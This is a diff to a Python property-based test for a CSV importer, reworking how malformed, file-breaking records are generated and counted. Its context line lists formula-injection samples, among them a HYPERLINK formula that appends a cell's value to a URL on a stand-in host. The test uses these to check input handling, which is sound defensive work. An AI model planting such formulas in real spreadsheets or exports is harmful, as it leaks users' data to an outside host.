@@ -31,20 +31,17 @@ FORMULA = st.sampled_from(['=HYPERLINK("http://example.com/?"&A1)', "=1+1", "+7"
 
 
 def line(cells: list[str], terminator: str) -> str:
+    """One CSV record; written with CRLF so that a CR or LF in a cell is always quoted."""
     out = io.StringIO()
-    csv.writer(out, lineterminator=terminator).writerow(cells)
-    return out.getvalue()
+    csv.writer(out, lineterminator="\r\n").writerow(cells)
+    return out.getvalue()[:-2] + terminator
 
 
 @st.composite
 def record(draw) -> tuple:
-    """A record without its source id (the test puts a new one first): ("row", text of its cells),
-    ("raw", bytes of one line) or ("breaking", a line that breaks the file)."""
-    kind = draw(st.integers(0, 24))
-    if kind == 0:
-        good = line([*good_rows(1)[0].values()][1:], "\n")
-        broken = draw(st.sampled_from(['"unclosed,', "a\rb,", "\r", 'x,"y']))
-        return "breaking", good.replace(",", "," + broken, 1)
+    """A record without its source id (the test puts a new one first): ("row", text of its cells,
+    encoding) or ("raw", bytes of one line)."""
+    kind = draw(st.integers(1, 24))
     if kind == 1:
         raw = draw(st.binary(max_size=300)).translate(None, b'"\r\n')
         return "raw", raw
@@ -65,6 +62,13 @@ def record(draw) -> tuple:
         line(cells, draw(st.sampled_from(["\r\n", "\n"]))),
         draw(st.sampled_from(["utf-8"] * 17 + ["cp932", "latin-1", "euc-jp"])),
     )
+
+
+@st.composite
+def breaking(draw) -> str:
+    """A record that breaks the file: a quote never closed or a lone CR outside quotes."""
+    good = line([*good_rows(1)[0].values()][1:], "\n")
+    return good.replace(",", "," + draw(st.sampled_from(['"unclosed,', "a\rb,", "\r", 'x,"y'])), 1)
 
 
 def header() -> bytes:
@@ -114,15 +118,15 @@ def test_fast_every_generated_record_is_imported_or_refused_by_its_line(tmp_path
     numbers = iter(range(10**9))
 
     @FAST
-    @given(drawn=record())
-    def generate(drawn):
+    @given(drawn=record(), broken=breaking())
+    def generate(drawn, broken):
         n = next(numbers)
         source_id = f"FZ-{n}"
-        if drawn[0] == "breaking":
+        if n % 25 == 0:  # one input in twenty-five breaks the file
             before = archive()
             with rolled_back():
                 path = tmp_path / f"breaking-{n}.csv"
-                batch = import_file(path, header() + f"{source_id},{drawn[1]}".encode())
+                batch = import_file(path, header() + f"{source_id},{broken}".encode())
                 assert batch.state == ImportBatch.State.FAILED and batch.errors[0]["line"] >= 1
                 assert archive() == before
             form_outcomes["refused"] += 1
@@ -135,4 +139,5 @@ def test_fast_every_generated_record_is_imported_or_refused_by_its_line(tmp_path
     generate()
     for i in range(0, len(pending), ROWS_PER_FILE):
         check_file(tmp_path / f"generated-{i}.csv", pending[i : i + ROWS_PER_FILE], form_outcomes)
-    print(f"\n{len(pending)} records in {-(-len(pending) // ROWS_PER_FILE)} files")
+    files = -(-len(pending) // ROWS_PER_FILE)
+    print(f"\n{len(pending)} records in {files} files, {form_outcomes.total() - len(pending)} files breaking")
